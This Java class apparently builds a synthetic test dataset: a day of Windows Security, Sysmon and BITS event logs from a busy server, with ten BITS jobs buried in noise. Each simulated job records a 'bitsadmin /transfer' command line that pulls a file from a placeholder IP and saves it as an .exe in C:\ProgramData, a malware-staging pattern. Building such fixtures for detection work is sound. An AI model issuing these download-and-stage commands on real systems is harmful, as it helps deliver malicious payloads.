package org.bitshound.testing.evidence.samples;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayDeque;
import java.util.List;
import java.util.function.Function;
import org.bitshound.testing.evidence.Event;
import org.bitshound.testing.evidence.EvtxChunk;
import org.bitshound.testing.evidence.StreamedLog;

/// A day of a busy file and web server: as much of connections, logons, object access, loaded
/// libraries, files and registry values as is asked for, none of which has to do with BITS, and in
/// it ten jobs with all that belongs to them. The day is the same whatever its size: with more
/// bytes there is more noise between the jobs. The same bytes come out in every run.
///
/// Invented like the samples: shares of the events are guessed from what auditing with object
/// access and connections on is known for.
public final class BusyServer {

  /// How many jobs there are.
  public static final int JOBS = 10;

  private static final Instant MIDNIGHT = Instant.parse("2026-02-06T00:00:00Z");
  private static final Duration DAY = Duration.ofHours(24);
  private static final Duration TICK = Duration.ofNanos(100);
  private static final int RECORDS_A_CHUNK = 140; // more than fit, so that time never runs ahead
  private static final Instant MODIFIED = Instant.parse("2026-02-01T22:14:09Z");
  private static final String BITSADMIN = "C:\\Windows\\System32\\bitsadmin.exe";

  private final SampleHost host =
      new SampleHost(
          "WEB-02.lindenwerk.example",
          SampleHost.Windows.WINDOWS_11,
          SampleHost.Watch.SYSMON,
          7,
          202);
  private final SampleUser admin =
      new SampleUser(
          "LINDENWERK", "adm.reyes", "S-1-5-21-1004336348-1177238915-682003330-1109", 0x91e55);

  private BusyServer() {}

  /// Writes a folder with the three logs of the server.
  ///
  /// @param args the folder, and about how many bytes the logs shall have together
  public static void main(String[] args) throws IOException {
    write(Path.of(args[0]), Long.parseLong(args[1]));
  }

  /// Writes `Security.evtx`, `Sysmon.evtx` and `Bits-Client.evtx`.
  ///
  /// @param bytes about how many they have together, half of it in Security; at least 1 MiB
  public static void write(Path folder, long bytes) throws IOException {
    Files.createDirectories(folder);
    var server = new BusyServer();
    for (int job = 0; job < JOBS; job++) {
      server.job(job);
    }
    int chunks = Math.toIntExact(bytes / 2 / EvtxChunk.SIZE);
    var security = new SecurityNoise(new Invention(5156));
    var sysmon = new SysmonNoise(new Invention(11));
    server.fill(folder.resolve("Security.evtx"), "Security", chunks, security::next);
    server.fill(folder.resolve("Sysmon.evtx"), SampleHost.SYSMON, chunks, sysmon::next);
    Files.write(
        folder.resolve("Bits-Client.evtx"), server.host.logFile(SampleHost.BITS, 1).toBytes());
  }

  private void job(int number) {
    Instant at = MIDNIGHT.plus(Duration.ofMinutes(90 + 120L * number));
    String url = "http://203.0.113.45/stage/" + number + ".bin";
    String local = "C:\\ProgramData\\stage" + number + ".exe";
    SampleProcess shell =
        host.start(
            at.minusSeconds(30), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", admin, explorer(at));
    SampleProcess maker =
        host.start(
            at.minusMillis(250),
            BITSADMIN,
            "bitsadmin  /transfer stage" + number + " " + url + " " + local,
            admin,
            shell);
    var job =
        SampleJob.create(host, at, "stage" + number, maker)
            .addFile(url, local, maker)
            .fetch(url, 40_960L + number, MODIFIED, 900)
            .complete();
    connection(at.plusMillis(95));
    host.end(maker, job.after(400).now());
    host.end(shell, job.after(5_000).now());
  }

  private SampleProcess explorer(Instant at) {
    return host.known(
        at.minusSeconds(900), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", admin);
  }

  /// What auditing tells of the service's connection to the job's server.
  private void connection(Instant at) {
    host.log(
        "Security",
        SecurityNoise.connection(
            at,
            host.bitsServiceFor(at).id(),
            "\\device\\harddiskvolume3\\windows\\system32\\svchost.exe",
            SecurityNoise.OUTBOUND,
            List.of("10.1.4.12", "50112", "203.0.113.45", "80")));
  }

  private void fill(Path file, String channel, int chunks, Function<Instant, Event> noise)
      throws IOException {
    var told = new ArrayDeque<>(host.inOrder(channel));
    Instant now = MIDNIGHT;
    try (var log = new StreamedLog(file, host.computer)) {
      while (log.chunks() < chunks) {
        now = later(now, log, chunks);
        while (!told.isEmpty() && told.getFirst().time().isBefore(now)) {
          log.add(told.removeFirst());
        }
        log.add(noise.apply(now));
      }
      for (Event event : told) {
        log.add(event);
      }
    }
  }

  /// {@return the time of day that the log has got to, a little later than the record before}
  private static Instant later(Instant before, StreamedLog log, int chunks) {
    double done =
        (log.chunks() + Math.min(0.99, (double) log.recordsInChunk() / RECORDS_A_CHUNK)) / chunks;
    Instant now = MIDNIGHT.plusNanos((long) (done * DAY.toNanos()) / 100 * 100);
    return now.isAfter(before) ? now : before.plus(TICK);
  }
}
